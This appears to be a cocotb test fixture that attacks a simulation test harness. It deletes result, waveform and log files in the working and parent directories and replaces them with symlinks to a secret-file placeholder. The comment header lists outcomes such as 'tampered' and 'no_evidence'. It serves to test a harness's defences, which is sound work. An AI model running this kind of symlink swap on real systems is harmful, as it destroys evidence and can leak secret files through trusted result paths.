# run: cocotb; ends: mismatch no_evidence crash tampered; plain limits: let it; attack: leaves links to a secret where results and waveforms are looked for
import glob
import os

import cocotb
from cocotb.triggers import Timer


@cocotb.test()
async def attack(dut):
    await Timer(1, "ns")
    for folder in (".", "..", "../.."):
        for name in (
            "results.xml",
            "dump.vcd",
            "dump.fst",
            "waves.vcd",
            "waves.fst",
            "sim.vvp",
            "sim_build",
            "compile.log",
            "coverage.dat",
            "report.json",
        ):
            path = f"{folder}/{name}"
            try:
                if os.path.lexists(path):
                    os.unlink(path)
                os.symlink("@SECRET_FILE@", path)
            except OSError as error:
                print(error)
    raise AssertionError("that was all")
